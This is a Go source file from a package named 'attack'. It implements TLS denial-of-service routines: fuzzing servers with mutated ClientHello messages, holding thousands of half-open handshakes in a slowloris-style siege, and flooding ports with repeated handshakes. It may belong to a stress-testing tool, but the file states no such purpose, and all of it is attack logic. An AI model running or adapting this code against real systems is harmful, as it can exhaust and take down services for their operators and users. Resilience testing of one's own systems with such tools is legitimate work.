package attack

import (
	"context"
	"crypto/tls"
	"io"
	"math/rand/v2"
	"net"
	"time"
)

// recorder takes the first bytes that somebody sends.
type recorder struct {
	net.Conn
	sent []byte
}

// Write implements net.Conn.
func (c *recorder) Write(b []byte) (int, error) {
	c.sent = append(c.sent, b...)
	return 0, io.ErrClosedPipe
}

// clientHello is the first message of a TLS client.
func clientHello() []byte {
	c := &recorder{}
	_ = tls.Client(c, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS10}).Handshake()
	return c.sent
}

// tlsMalformed sends mutated first messages to every port that speaks TLS.
func tlsMalformed(ctx context.Context, f *Field) error {
	hello := clientHello()
	return f.strike(ctx, f.addresses(secured...), func(r *rand.Rand) []byte { return mutated(r, hello) })
}

// tlsHalfHello holds thousands of connections that sent half of their first message.
func tlsHalfHello(ctx context.Context, f *Field) error {
	hello := clientHello()
	siege{f.addresses(secured...), mostSockets, sends(hello[:len(hello)/2]...)}.hold(ctx, f)
	return nil
}

// secure makes a connection one of TLS, as an old or a new phone would.
func secure(ctx context.Context, address string, r *rand.Rand) (*tls.Conn, error) {
	version := uint16(tls.VersionTLS10 + r.IntN(4))
	dialer := &tls.Dialer{NetDialer: &net.Dialer{Timeout: dialTime}, Config: &tls.Config{
		InsecureSkipVerify: true, MinVersion: tls.VersionTLS10, MaxVersion: version, CipherSuites: suites}}
	c, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	return c.(*tls.Conn), nil
}

// suites are those that clients of all ages have.
var suites = []uint16{tls.TLS_RSA_WITH_AES_256_CBC_SHA, tls.TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256, tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA}

// handshakes shakes hands with every port that speaks TLS, over and over.
func (f *Field) handshakes(ctx context.Context, addresses []string, n int) {
	done, refused := f.count("handshakes"), f.count("handshakes refused")
	crew(ctx, n, func(r *rand.Rand) {
		ctx, cancel := context.WithTimeout(ctx, dialTime)
		defer cancel()
		c, err := secure(ctx, addresses[r.IntN(len(addresses))], r)
		if err != nil {
			refused.Add(1)
			rest(ctx, 2*time.Millisecond)
			return
		}
		done.Add(1)
		c.Close()
	})
}
